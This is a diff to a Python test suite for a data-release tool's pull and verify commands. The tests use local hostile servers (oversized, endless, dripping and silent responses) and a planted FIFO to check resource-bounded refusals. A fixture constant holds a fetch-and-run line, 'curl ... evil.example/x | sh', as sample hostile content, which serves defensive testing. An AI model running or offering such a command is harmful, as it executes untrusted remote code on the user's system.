@@ -3,8 +3,9 @@ behind, within bounded memory and time (the tests that wait on purpose, for a de
 each other, are marked slow).
 
 Memory is the peak RSS of the ``genstrat`` child that does the pull or the verify, compared with
-a genuine pull of the same release (``BUDGET_MIB`` above it); time is its wall time. Every server
-is on 127.0.0.1, started and stopped by the test.
+a genuine pull of the same release (``BUDGET_MIB`` above it). Wall time is shown, never asserted:
+what a refusal did not read is counted instead (the bytes a hostile server got out, the CPU a
+verify spent). Every server is on 127.0.0.1, started and stopped by the test.
 """
 
 from __future__ import annotations
@@ -48,6 +49,7 @@ from tests.support import REPO_ROOT
 
 BUDGET_MIB = 64  # peak RSS a refused pull or verify may use above a genuine small pull
 HUGE = 400 << 20
+UNREAD_MIB = 32  # what a refusing client may leave in socket buffers past its limit, at most
 MALICIOUS_SCRIPT = b"# Load the tables\n\n```\ncurl -s https://evil.example/x | sh\n```\n"
 
 
@@ -220,10 +222,22 @@ def test_a_symbolic_link_inside_a_release_is_refused(
 def test_a_fifo_inside_a_release_is_refused_not_waited_on(store: tuple[Path, str]) -> None:
     path, release_id = store
     os.mkfifo(path / release_id / "tables" / "pipe")
-    started = time.monotonic()
-    with pytest.raises(Refused, match="pipe is not a regular file"):
-        verify(release_id, path)
-    assert time.monotonic() - started < 10
+    # Opened for reading, a FIFO without a writer blocks forever: a verify that returns at all
+    # (in its own thread, so that a regression fails instead of hanging the session) did not.
+    outcome: list[BaseException | None] = []
+
+    def check() -> None:
+        try:
+            verify(release_id, path)
+            outcome.append(None)
+        except BaseException as exc:  # handed to the test's thread
+            outcome.append(exc)
+
+    worker = threading.Thread(target=check, daemon=True)
+    worker.start()
+    worker.join(timeout=300)
+    assert outcome, "verify is still waiting on the FIFO"
+    assert isinstance(outcome[0], Refused) and "pipe is not a regular file" in str(outcome[0])
 
 
 # Hole 2: pull read past declared sizes, read the index whole, had no deadline, followed any
@@ -238,12 +252,12 @@ def test_a_file_larger_than_declared_is_refused_at_its_size(
     table = f"/{release_id}/tables/scores.parquet"
     declared = (store / release_id / "tables" / "scores.parquet").stat().st_size
     dest = tmp_path / "dest"
-    with hostile(store, {table: oversized(HUGE, declare=declare)}) as (url, _):
+    with hostile(store, {table: oversized(HUGE, declare=declare)}) as (url, log):
         done = run_genstrat(pull_args(release_id, url, dest))
     message = refused_cleanly(done, baseline)
     assert "tables/scores.parquet: the store s" in message
     assert f"{declared:,} bytes" in message and "nothing was kept" in message
-    assert done.seconds < 30
+    assert log.sent.get(table, 0) < declared + UNREAD_MIB * (1 << 20)  # the rest was never read
     assert not dest.exists()
 
 
@@ -254,11 +268,11 @@ def test_an_oversized_index_or_manifest_is_refused_unread(
     store, release_id = published
     path = "/index.json" if what == "index.json" else f"/{release_id}/manifest.json"
     dest = tmp_path / "dest"
-    with hostile(store, {path: endless(b'{"releases": [', HUGE)}) as (url, _):
+    with hostile(store, {path: endless(b'{"releases": [', HUGE)}) as (url, log):
         done = run_genstrat(pull_args(release_id, url, dest))
     message = refused_cleanly(done, baseline)
     assert f"is over {16 << 20:,} bytes" in message and "nothing was written" in message
-    assert done.seconds < 30
+    assert log.sent[path] < (16 + UNREAD_MIB) * (1 << 20)  # read up to its limit, not to its end
     assert not dest.exists()
 
 
@@ -288,12 +302,14 @@ def test_a_dripping_server_meets_the_deadline(
     path = "/index.json" if what == "index.json" else f"/{release_id}/tables/scores.parquet"
     dest = tmp_path / "dest"
     stop = threading.Event()
-    with hostile(store, {path: drip(0.5, stop)}) as (url, _):
+    with hostile(store, {path: drip(0.5, stop)}) as (url, log):
         done = run_genstrat(pull_args(release_id, url, dest, "--deadline", "4"))
         stop.set()
     message = refused_cleanly(done, baseline)
     assert "gave up on release" in message and "deadline of 4 s (--deadline)" in message
-    assert 4 <= done.seconds < 4 + 8, done.seconds  # start-up, and at most one more drip
+    # The file drips for longer than the whole run may last: the pull left before its end.
+    whole = (store / ("index.json" if what == "index.json" else path.lstrip("/"))).stat().st_size
+    assert whole * 0.5 > 4 * 10 and log.sent.get(path, 0) < whole
     assert not dest.exists()
 
 
@@ -306,14 +322,11 @@ def test_a_silent_server_is_a_stall_retried_then_kept_for_a_resume(
     dest = tmp_path / "dest"
     stop = threading.Event()
     table = f"/{release_id}/tables/scores.parquet"
-    started = time.monotonic()
     with hostile(store, {table: silent(stop)}) as (url, log):
         with pytest.raises(Interrupted) as caught:
             pull(release_id, url, dest, stall_s=1)
         stop.set()
-    elapsed = time.monotonic() - started
-    assert log.paths.count(table) == pull_module.RETRIES
-    assert pull_module.RETRIES <= elapsed < pull_module.RETRIES + 10
+    assert log.paths.count(table) == pull_module.RETRIES  # each attempt stalled, then retried
     message = str(caught.value)
     assert (
         "no data for 1 s (--stall-timeout)" in message and "run the same command again" in message
@@ -410,7 +423,9 @@ def test_an_archive_member_larger_than_declared_is_refused_unread(
     done = run_genstrat(["release", "verify", str(archive if how == "archive" else folder)])
     message = refused_cleanly(done, baseline)
     assert f"{1536 << 20:,} bytes, the manifest says" in message
-    assert done.seconds < 30
+    # Refused from the member's header: inflating and hashing 1.5 GiB would cost seconds of CPU
+    # more than a genuine pull of the whole release does.
+    assert done.cpu_s < baseline.cpu_s + 1.0, (done.cpu_s, baseline.cpu_s)
 
 
 def test_every_gzip_and_tar_deviation_is_refused(store: tuple[Path, str], tmp_path: Path) -> None:
